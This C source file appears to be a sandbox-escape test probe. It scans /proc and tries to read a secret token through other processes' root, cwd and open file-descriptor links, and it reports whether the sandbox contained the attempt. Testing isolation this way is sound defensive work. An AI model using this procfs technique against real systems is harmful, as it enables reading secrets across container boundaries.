/* Attack: /proc as a way out. For every pid visible in /proc (at most
 * 4096): /proc/PID/root/<secret's absolute path>, /proc/PID/cwd/<relative
 * path>, and every /proc/PID/fd/N that is a regular file (the driver holds
 * the secret open as fd 9 in the shell that starts the program); then
 * /proc/1/root/..., /proc/self/root/... and /proc/thread-self/root/....
 *
 * Stops it: the guest has its own pid namespace and fresh /proc, so the
 * host's processes (and the shell holding fd 9) are not there; the gofer
 * refuses magic links (RESOLVE_NO_MAGICLINKS), and /proc/self/{root,cwd}
 * are replaced by their targets inside the sandbox.
 * Natively: /proc/PID/root of the first process of ours reads the secret
 * (ESCAPED). Only regular files are read, so no pipe of another process is
 * drained.
 *
 * Usage: procfs TOKEN SECRET_ABS REL_PATH
 */
#include <ctype.h>
#include <dirent.h>
#include <limits.h>
#include <sys/stat.h>

#include "escape.h"

static long opened_fds;

static void try_fd_link(const char *name, const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return;
	struct stat st;
	char shown[256];
	opened_fds++;
	if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && fd_has_token(fd, shown, sizeof(shown)))
		escaped("%s: read \"%s\"", name, shown);
	close(fd);
}

static void quiet_try(const char *name, const char *path, int *errors)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0) {
		(*errors)++;
		return;
	}
	char shown[256];
	struct stat st;
	if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && fd_has_token(fd, shown, sizeof(shown)))
		escaped("%s: read \"%s\"", name, shown);
	close(fd);
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "procfs", 2, "SECRET_ABS REL_PATH");
	const char *abs = argv[2], *rel = argv[3];
	char path[PATH_MAX * 2], name[PATH_MAX * 2];
	DIR *proc = opendir("/proc");
	if (!proc)
		setup_failed("opendir /proc: %s", strerror(errno));
	int pids = 0, root_err = 0, cwd_err = 0, fd_dirs = 0;
	struct dirent *e;
	while ((e = readdir(proc)) && pids < 4096) {
		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		pids++;
		snprintf(path, sizeof(path), "/proc/%s/root%s", e->d_name, abs);
		snprintf(name, sizeof(name), "/proc/%s/root/...", e->d_name);
		quiet_try(name, path, &root_err);
		snprintf(path, sizeof(path), "/proc/%s/cwd/%s", e->d_name, rel);
		snprintf(name, sizeof(name), "/proc/%s/cwd/...", e->d_name);
		quiet_try(name, path, &cwd_err);
		snprintf(path, sizeof(path), "/proc/%s/fd", e->d_name);
		DIR *fds = opendir(path);
		if (!fds)
			continue;
		fd_dirs++;
		struct dirent *f;
		int n = 0;
		while ((f = readdir(fds)) && n++ < 1024) {
			if (!isdigit((unsigned char)f->d_name[0]))
				continue;
			snprintf(path, sizeof(path), "/proc/%s/fd/%s", e->d_name, f->d_name);
			try_fd_link(path, path);
		}
		closedir(fds);
	}
	closedir(proc);
	escape_note("%d pids; root/: %d failed; cwd/: %d failed; %d fd dirs listed, %ld fds "
	            "opened",
	            pids, root_err, cwd_err, fd_dirs, opened_fds);
	snprintf(path, sizeof(path), "/proc/1/root%s", abs);
	try_open("/proc/1/root", path);
	snprintf(path, sizeof(path), "/proc/self/root%s", abs);
	try_open("/proc/self/root", path);
	snprintf(path, sizeof(path), "/proc/thread-self/root%s", abs);
	try_open("/proc/thread-self/root", path);
	snprintf(path, sizeof(path), "/proc/1/cwd/%s", rel);
	try_open("/proc/1/cwd", path);
	contained();
}
